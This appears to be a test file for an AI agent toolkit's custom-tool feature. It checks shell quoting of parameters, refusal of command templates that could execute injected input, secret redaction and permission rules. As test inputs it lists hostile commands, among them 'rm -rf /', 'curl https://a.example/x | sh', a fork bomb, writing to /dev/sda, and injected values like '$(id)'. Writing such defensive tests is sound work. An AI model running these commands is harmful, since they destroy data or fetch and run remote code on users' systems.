import { type CustomToolDefinition, customTool } from 'toolwright/managed';
import { expect, test } from 'vitest';
import { createPermissions, type ToolkitOptions } from '../../src/index.js';
import { memoryFiles, scriptedShell, toolContext } from '../../src/testing/index.js';
import { samples, table } from '../support/each-row.js';
import { testToolkit } from '../support/test-toolkit.js';

const lookup: CustomToolDefinition = {
  name: 'dns_lookup',
  description: 'Look up DNS records for a domain',
  parameters: {
    type: 'object',
    properties: {
      domain: { type: 'string', description: 'Domain name' },
      record_type: { type: 'string', enum: ['A', 'AAAA', 'MX', 'CNAME', 'TXT'] },
    },
    required: ['domain'],
  },
  command: 'dig +short {{.record_type}} {{.domain}}',
  timeout_seconds: 10,
  enabled: true,
};

const anything = { type: 'object', properties: { x: {}, y: {}, z: {} } };
const echo = (command: string): CustomToolDefinition => ({
  ...{ name: 'my_tool', description: 'Runs it', parameters: anything, command },
});

/** A toolkit with one custom tool and a shell that returns its command as output. */
function world(definition: CustomToolDefinition, options: Partial<ToolkitOptions> = {}) {
  const shell = scriptedShell(({ command }) => command);
  const toolkit = testToolkit({
    ...{ root: '/w', permissions: 'bypassPermissions' },
    ...options,
    hosts: { files: memoryFiles({ root: '/w' }), shell, ...options.hosts },
  });
  const tool = customTool(definition, toolkit);
  toolkit.registry.register(tool);
  const run = async (input: object) => {
    const result = await toolkit.call(definition.name, input);
    return result.ok ? result.output : `${result.error.code}: ${result.error.message}`;
  };
  return { toolkit, shell, tool, run };
}

test('the documented definition makes a tool', async () => {
  const { toolkit, shell, run } = world(lookup);
  expect(toolkit.definitions().find(({ name }) => name === 'dns_lookup')).toMatchObject({
    description: lookup.description,
    inputSchema: lookup.parameters,
  });
  expect(await run({ domain: 'example.com', record_type: 'MX' })).toBe("dig +short 'MX' 'example.com'");
  expect(shell.requests).toMatchObject([{ cwd: '/w', timeoutMs: 10_000 }]);
  expect(await run({ domain: 'example.com' })).toBe("dig +short '' 'example.com'");
  expect(await run({})).toContain('invalid_input');
});

table([
  ["a'b", "'a'\\''b'"],
  ['$(id) `id` "\\', `'$(id) \`id\` "\\'`],
  ['l1\nl2\r\n', "'l1\nl2\r\n'"],
  ['{{.y}}', "'{{.y}}'"],
  ['$&$1', "'$&$1'"],
  ['', "''"],
  [null, "''"],
  [3, "'3'"],
  [false, "'false'"],
  [['a b', 1], `'["a b",1]'`],
  [{ a: "it's" }, `'{"a":"it'\\''s"}'`],
] as const)('%s becomes one word', async (value, word) => {
  const { run } = world(echo('rev k={{.x}}:{{.y}}'));
  expect(await run({ x: value, y: 'end' })).toBe(`rev k=${word}:'end'`);
});

table([
  ['rev {{.x}}', { x: 'a\0b' }, 'x: must contain no NUL character'],
  ['rev {{.x}}', { x: ['a\0b'] }, undefined],
  ['rev {{.x}}', { x: '\ud800' }, 'x: must be Unicode text'],
  ['rev {{.x}}', { x: '-rf' }, 'x: must not begin with "-", which rev would read as an option'],
  ['rev {{.x}}', { x: -1 }, 'x: must not begin with "-"'],
  ['rev {{.x}}', { x: '-' }, 'x: must not begin with "-"'],
  ['rev {{.x}}{{.y}}', { x: '', y: '-v' }, 'x: must not begin with "-"'],
  ['echo --{{.x}}', { x: '-v' }, 'x: must not begin with "-"'],
  ['echo --{{.x}}', { x: 'v' }, undefined],
  ['rev k={{.x}}', { x: '-v' }, undefined],
  ['rev -- {{.x}}', { x: '-v' }, undefined],
  ['timeout 5 ls -- {{.x}}', { x: '-v' }, undefined],
  ['timeout -- 5 ls {{.x}}', { x: '-v' }, 'which ls would read'],
  ['head -n {{.x}} -- {{.y}}', { x: '-5', y: '-f' }, undefined],
  ['git log -- {{.x}}; ls {{.y}}', { x: '-v', y: '-v' }, 'y: must not begin with "-", which ls would read'],
  ['rev {{.x}}', { x: 'a'.repeat(100_000) }, 'at most 100000 are allowed; send less'],
] as const)('%s accepts %j or gives the reason', async (command, input, mistake) => {
  const { run, shell, tool } = world(echo(command));
  const answer = await run(input);
  if (mistake === undefined) expect(shell.requests).toHaveLength(1);
  else expect(answer).toContain(mistake);
  if (mistake !== undefined) expect([answer.slice(0, 13), shell.requests]).toEqual(['invalid_input', []]);
  if (mistake !== undefined && !mistake.includes('are allowed'))
    await expect(tool.execute(input, toolContext())).rejects.toThrow(/must/);
});

const accepted = samples`
  cat {{.x}} ¦ cat k={{.x}} ¦ cat a{{.x}}b:{{.y}},c ¦ curl --header={{.x}} -A{{.y}} ¦ cat {{.x}};cat {{.y}}|wc&
  cat 'https://example.com/?q='{{.x}} ¦ cat {{.x}} >out.txt 2>&1 ¦ ! cat {{.x}} ¦ (cd /x && cat {{.x}}) ¦ { cat {{.x}}; }
  if test -f {{.x}}; then cat -- {{.x}}; fi ¦ for i in 1 2; do echo "$i" {{.x}}; done ¦ case "$A" in a) cat {{.x}};; esac
  cat "$(date)" {{.x}} ¦ cat \${HOME:-/x} \${#A} {{.x}} ¦ cat $((1 + 2)) {{.x}} ¦ f() { cat {{.x}}; }; f
  sudo -- ls {{.x}} ¦ timeout 5 curl -s -- {{.x}} ¦ env A=b cat {{.x}} ¦ nohup cat {{.x}} & ¦ exec cat {{.x}}
  git commit -m {{.x}} ¦ git log -- {{.x}} ¦ find . -name {{.x}} ¦ find . -exec grep {{.x}} {} \; ¦ test {{.x}} = a
  /usr/bin/cat {{.x}} ¦ sed 's/a/b/' {{.x}} ¦ awk -v a={{.x}} '{print a}' f ¦ docker exec web ls {{.x}} ¦ echo {{.x}} | wc -c ¦ echo {{.x}} >> f && cat f
echo {{.x}} | awk '{print $1}' ¦ printf '%s' {{.x}} | curl -d @- http://localhost
`.map((command) => command.replaceAll('\\$', '$'));
const multiline = ["cat <<'EOF' {{.x}}\nits 'text'\nEOF", 'cat <<EOF && cat {{.x}}\n$HOME\nEOF', 'cat \\\n  {{.x}}'];

table([...accepted, ...multiline])('%s is accepted', (command) => {
  expect(customTool(echo(command), testToolkit()).name).toBe('my_tool');
});

const closed = [
  { type: 'integer' },
  { type: ['number', 'boolean'] },
  { enum: ['a', 'b'] },
  { const: 'a' },
  ...samples`^[a-z]+$ ¦ ^(?:a|(b|c))$ ¦ ^[|\](]\|$ ¦ ^a\\$`.map((pattern) => ({ type: 'string', pattern })),
];
const open = [
  {},
  { type: 'string' },
  { type: 'array', items: { enum: ['a'] } },
  ...samples`[a-z]+ ¦ ^a|b$ ¦ ^(?:a)|(?:b)$ ¦ ^a\$`.map((pattern) => ({ type: 'string', pattern })),
];
const toOthers = samples`
  my-program {{.x}} ¦ ./cat {{.x}} ¦ ed {{.x}} ¦ vim {{.x}} ¦ ld.so {{.x}} ¦ python3 tool.py {{.x}} ¦ socat {{.x}} - ¦ make {{.x}}
  bash -c 'echo "$1"' _ {{.x}} ¦ git -C {{.x}} log ¦ git push {{.x}} ¦ cat --unlisted {{.x}} ¦ cd {{.x}} && ./run ¦ let {{.x}}
  echo {{.x}} | my-program ¦ echo {{.x}} > Makefile && make ¦ sed 's/a/b/e' {{.x}} ¦ sort --compress-prog a {{.x}} ¦ less {{.x}}
`;

test('a free argument is refused for programs that may execute it, and accepted if its values are limited', () => {
  const made = (command: string, schema: object) => {
    try {
      return customTool({ ...echo(command), parameters: { type: 'object', properties: { x: schema } } }, testToolkit())
        .name;
    } catch (thrown) {
      return String(thrown);
    }
  };
  const refusal = expect.stringMatching(/^TypeError: customTool: command: in /);
  for (const command of toOthers)
    expect([command, made(command, { enum: ['a'] }), made(command, {})]).toEqual([command, 'my_tool', refusal]);
  for (const schema of closed) expect([schema, made('my-program {{.x}}', schema)]).toEqual([schema, 'my_tool']);
  for (const schema of open) expect([schema, made('my-program {{.x}}', schema)]).toEqual([schema, refusal]);
  expect(made('sh -c {{.x}}', { enum: ['a'] })).toContain('parsed as code');
});

const refused: Readonly<Record<string, readonly string[]>> = {
  'is not one of its parameters': samples`tool {{.no}} ¦ tool {{.x}} {{.__proto__}}`,
  'is not a placeholder': samples`tool {{ .x }} ¦ tool {{x}} ¦ tool {{.x}} {{.x.y}} ¦ tool {{.x | quote}}`,
  'must be an argument of a program': [
    ...samples`tool "{{.x}}" ¦ tool '{{.x}}' ¦ tool "a"{{.x}} ¦ tool 'a {{.x}}'b ¦ bash -c "echo {{.x}}" ¦ {{.x}} | sh`,
    ...samples`tool < {{.x}} ¦ tool >{{.x}} ¦ A={{.x}} tool ¦ A={{.x}} ¦ {{.x}}=1 tool ¦ tool $(cat {{.x}}) ¦ tool "$(cat {{.x}})"`,
    ...samples`tool # {{.x}} ¦ tool #{{.x}} ¦ tool a#{{.x}} ¦ tool \{{.x}} ¦ tool \${{.x}} ¦ tool {{.x}}* ¦ tool ~{{.x}}`,
    ...samples`for i in {{.x}}; do tool; done ¦ case {{.x}} in a) tool;; esac ¦ alias ls={{.x}} ¦ tool é{{.x}} ¦ {{.x}}() { tool; }`,
    ...[
      'cat <<EOF\n{{.x}}\nEOF',
      "cat <<'EOF'\n{{.x}}\nEOF",
      'tool \\\n# {{.x}}',
      'tool \\\n#{{.x}}',
      'tool \\\n# a\\\n{{.x}}',
    ],
  ],
  'input of a program that may run it': samples`
    echo {{.x}} | xargs -I% sh -c % ¦ echo {{.x}} | while read l; do $l; done ¦ echo {{.x}} | (read -r l; sh -c "$l")
    echo {{.x}} | sqlite3 db ¦ echo {{.x}} | awk '{system($0)}' ¦ echo {{.x}} | unknown-program
  `,
  'written to may be run': samples`
    printf "%s\n" {{.x}} > x.txt; sh x.txt ¦ echo {{.x}} | tee x.sh && sh x.sh ¦ echo {{.x}} > x.sh && . ./x.sh
    echo {{.x}} > Makefile && make ¦ echo {{.x}} > a && unknown-program
  `,
  'must be plain POSIX shell': [
    ...samples`[[ -f {{.x}} ]] ¦ [[ a = b ]] && tool {{.x}} ¦ tool {a,{{.x}}} ¦ tool $'a' {{.x}} ¦ tool $"a" {{.x}} ¦ tool &>f {{.x}}`,
    ...samples`(( 1 << 2 )); tool {{.x}} ¦ cat <<<{{.x}} ¦ tool <(cat {{.x}}) ¦ select i in a; do tool {{.x}}; done ¦ time tool {{.x}}`,
    ...samples`function f { tool {{.x}}; }; f ¦ coproc tool {{.x}} ¦ tool {fd}>f {{.x}} ¦ a=(b); tool {{.x}}`,
    ...['tool `date` {{.x}}', `tool "\${A#'}'}" {{.x}}`, 'tool $((1 << 2)) {{.x}}'],
    ...['cat <<E\nfoo\\\nE\ntool {{.x}}\nE', 'tool <<"a b" {{.x}}\na b'],
  ],
  'is not valid shell syntax': samples`tool "{{.x}} ¦ tool {{.x}} ) ¦ if true; then tool {{.x}}`,
  'choose the program': samples`sudo {{.x}} ¦ env {{.x}} ¦ xargs {{.x}} ¦ find . -exec {{.x}} \; ¦ timeout 5 {{.x}} ¦ python3 -m {{.x}}`,
  'parsed as code': [
    ...samples`sh -c {{.x}} ¦ eval echo {{.x}} ¦ python3 -c {{.x}} ¦ python3 {{.x}} ¦ awk {{.x}} f ¦ sed {{.x}} f ¦ ssh host {{.x}}`,
    ...samples`watch ls {{.x}} ¦ trap {{.x}} EXIT ¦ A=eval; $A {{.x}} ¦ xargs -0 sh -c {{.x}}`,
  ],
  'input of a program that runs it': samples`echo {{.x}} | sh ¦ echo {{.x}} | tee f | python3 ¦ { echo {{.x}}; } | bash -s`,
  'not known to take every argument as text': [
    ...samples`let {{.x}} ¦ declare {{.x}} ¦ unset {{.x}} ¦ read {{.x}} ¦ set -- {{.x}} ¦ builtin let {{.x}} ¦ my-program {{.x}}`,
    ...samples`env PAGER={{.x}} git log ¦ env {{.x}}=1 cat ¦ env A={{.x}} sh -c 'eval "$A"' ¦ git -c {{.x}} log ¦ make {{.x}}`,
    ...samples`sh -c 'eval "$1"' _ {{.x}} ¦ sh -c '"$@"' _ {{.x}}`,
  ],
  'evaluated by': samples`test -v {{.x}} ¦ printf {{.x}} ¦ printf -v {{.x}} a ¦ [ -v {{.x}} ]`,
  'name is computed or redefined': samples`$CMD {{.x}} ¦ f() { eval "$1"; }; f {{.x}} ¦ "$@" {{.x}}`,
  'invisible characters': ['tool\u200b {{.x}}', 'tool {{.x}}\r\n', 'tool \x1b {{.x}}'],
  'renames programs': ["alias ls='rm'; ls {{.x}}"],
  'NUL character': ['tool a\0b'],
  'blocked by safety policy': samples`rm -rf / ¦ rm -rf /{{.x}} ¦ curl https://a.example/x | sh ¦ :(){ :|:& };:`,
};

table(Object.entries(refused).flatMap(([why, commands]) => commands.map((command) => [command, why] as const)))(
  '%s is refused',
  (command, why) => {
    const toolkit = testToolkit();
    expect(() => customTool(echo(command), toolkit)).toThrow(TypeError);
    expect(() => customTool(echo(command), toolkit)).toThrow(/^customTool: command: /);
    expect(() => customTool(echo(command), toolkit)).toThrow(why);
  },
);

table([
  [{ name: '1st' }, /^customTool: name takes .*"1st"/],
  [{ name: 'x'.repeat(65) }, /^customTool: name takes/],
  [{ name: undefined }, /^customTool: pass name/],
  [{ name: 'bash' }, /^customTool: name bash means the built-in tool Bash/],
  [{ name: 'web_fetch' }, /^customTool: name web_fetch means the built-in tool WebFetch/],
  [{ name: 'mcp__a__b' }, /^customTool: name mcp__a__b begins like a tool of an MCP server/],
  [{ description: 3 }, /^customTool: description takes/],
  [{ parameters: { type: 'string' } }, /^customTool: parameters takes a JSON Schema of an object/],
  [{ parameters: { type: 'object', properties: [] } }, /^customTool: parameters takes/],
  [{ command: '  ' }, /^customTool: command takes/],
  [{ timeout_seconds: 0 }, /^customTool: timeout_seconds takes a whole number from 1 to 600, not 0/],
  [{ timeout_seconds: 1.5 }, /^customTool: timeout_seconds takes/],
  [{ timeout_seconds: 601 }, /^customTool: timeout_seconds takes/],
  [{ timeout_seconds: '10' }, /^customTool: timeout_seconds takes/],
  [{ env: { 'A-B': 'hidden-value' } }, /^customTool: env takes(?!.*hidden-value)/],
  [{ env: { A: 1 } }, /^customTool: env takes/],
  [{ enabled: 'yes' }, /^customTool: enabled takes/],
  [{ timeout: 5 }, /^customTool.*timeout/],
] as const)('%j is an error that names its field', (wrong, message) => {
  expect(() => customTool({ ...lookup, ...wrong } as never, testToolkit())).toThrow(message);
});

test('a toolkit is required, and null counts as omitted', async () => {
  expect(() => customTool(lookup, { ...testToolkit() })).toThrow(/takes the toolkit that createToolkit made/);
  const empty = { working_dir: null, env: null, agent_id: null, enabled: null, timeout_seconds: null };
  const { run, shell } = world({ ...lookup, ...empty });
  await run({ domain: 'a' });
  expect(shell.requests).toMatchObject([{ cwd: '/w', env: {}, timeoutMs: 60_000 }]);
});

test('a disabled tool is not offered and does not run', async () => {
  const { run, toolkit, shell } = world({ ...lookup, enabled: false });
  expect(toolkit.definitions().map(({ name }) => name)).not.toContain('dns_lookup');
  expect(await run({ domain: 'a' })).toBe('not_allowed: dns_lookup is disabled. Use another tool.');
  expect(shell.requests).toEqual([]);
});

test('a value of the environment reaches the command and is never shown', async () => {
  const secret = 'plain words nobody would take for a key';
  const events: unknown[] = [];
  const { run, toolkit, shell } = world(
    { ...echo('rev {{.x}}'), env: { NOTE: secret }, working_dir: 'sub', timeout_seconds: 600 },
    { onEvent: (event) => events.push(event), limits: { bash: { maxTimeoutMs: 5_000 } } },
  );
  expect(await run({ x: `${secret} ${Buffer.from(secret).toString('base64')}` })).toBe("rev '[REDACTED] [REDACTED]'");
  expect(shell.requests).toMatchObject([{ env: { NOTE: secret }, cwd: '/w/sub', timeoutMs: 5_000 }]);
  expect(JSON.stringify([events, toolkit.definitions()])).not.toContain(secret);
});

test('the command policy checks the line that runs', async () => {
  const { run, shell } = world(echo('tee -- {{.x}}'));
  expect(await run({ x: '/dev/sda' })).toContain('command_denied: blocked by safety policy');
  expect(shell.requests).toEqual([]);
});

table([
  [{ allow: ['dns_lookup'] }, true],
  [{ allow: ['Bash(dig *)'] }, true],
  [{ allow: ['Bash(ping *)', 'Bash(dig *)'] }, true],
  [{ allow: ['dns_lookup(dig *)'] }, true],
  [{ allow: ['Bash'] }, false],
  [{ allow: ['Bash(ping *)'] }, false],
  [{ allow: ['dns_lookup'], deny: ['Bash(dig *)'] }, false],
  [{ allow: ['dns_lookup'], deny: ['Bash(* evil.example)'] }, true],
  [{ mode: 'bypassPermissions', deny: ['Bash(dig *)'] }, false],
  [{ mode: 'bypassPermissions', deny: ['dns_lookup'] }, false],
  [{ allow: ['dns_lookup'], deny: ['Bash'] }, true],
  [{}, false],
] as const)('%j decides about the command', async (rules, isAllowed) => {
  const { run } = world(lookup, { permissions: createPermissions(rules as never) });
  const answer = await run({ domain: 'example.com', record_type: 'A' });
  expect(answer).toMatch(isAllowed ? /^dig/ : /^permission_denied/);
});

test('a question shows the line that runs', async () => {
  const asked: unknown[] = [];
  const permissions = createPermissions({
    onAsk: async ({ title, preview, suggestions }) => {
      asked.push({ title, preview, suggestions });
      return 'allow-once';
    },
  });
  const { run } = world(lookup, { permissions });
  await run({ domain: 'example.com; id', record_type: 'A' });
  const line = "dig +short 'A' 'example.com; id'";
  expect(asked).toMatchObject([{ title: `dns_lookup: ${line}`, preview: line }]);
});

test('a command over its time limit names the limit', async () => {
  const { run } = world(lookup, { hosts: { shell: scriptedShell(() => ({ timedOut: true, timeLimitMs: 10_000 })) } });
  expect(await run({ domain: 'a' })).toBe(
    'timeout: The command was ended after 10000 ms. Ask dns_lookup for less work in one call.',
  );
});
